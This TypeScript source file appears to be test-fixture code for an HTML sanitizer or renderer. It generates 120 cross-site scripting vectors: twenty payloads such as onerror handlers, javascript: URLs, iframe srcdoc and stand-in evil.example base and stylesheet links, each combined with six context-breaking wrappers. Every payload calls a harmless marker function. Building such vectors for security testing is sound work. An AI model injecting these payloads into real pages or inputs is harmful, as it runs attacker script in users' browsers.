// Texts that have run as scripts in some application. Each calls `hit(0)`; the number is set when it is stored.

const payloads = [
  '<script>hit(0)</script>',
  '<img src=x onerror=hit(0)>',
  '<svg onload=hit(0)>',
  '<svg><script>hit(0)</script></svg>',
  '<iframe srcdoc="<script>parent.hit(0)</script>">',
  '<a href="javascript:hit(0)">hit(0)</a>',
  '<details open ontoggle=hit(0)>',
  '<video><source onerror=hit(0)></video>',
  '<input autofocus onfocus=hit(0)>',
  '<body onload=hit(0)>',
  '<math><mtext><img src=x onerror=hit(0)></mtext></math>',
  '<object data="javascript:hit(0)"></object>',
  '<meta http-equiv=refresh content="0;url=javascript:hit(0)">',
  '<form action="javascript:hit(0)"><button autofocus>hit(0)</button></form>',
  '<style>@import "javascript:hit(0)";</style>',
  '<base href="https://evil.example/hit(0)/">',
  '<link rel=stylesheet href="https://evil.example/hit(0).css">',
  '[hit(0)](javascript:hit(0))',
  '![hit(0)](x "onerror=hit(0)")',
  'javascript:hit(0)',
];

const surroundings: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"'>${payload}`,
  (payload) => `</script></title></style></textarea>${payload}`,
  (payload) => `--></noscript>]]>${payload}<!--`,
  (payload) => `\${${payload}}{{${payload}}}\u2028`,
  (payload) =>
    `${payload.replaceAll('<', '\\u003c')}&lt;b&gt;${payload.replace(/<(\w+)/, (tag) => tag.toUpperCase())}`,
];

/** 120 vectors, each at most 200 characters long. */
export const scriptVectors = surroundings.flatMap((surround) => payloads.map(surround));
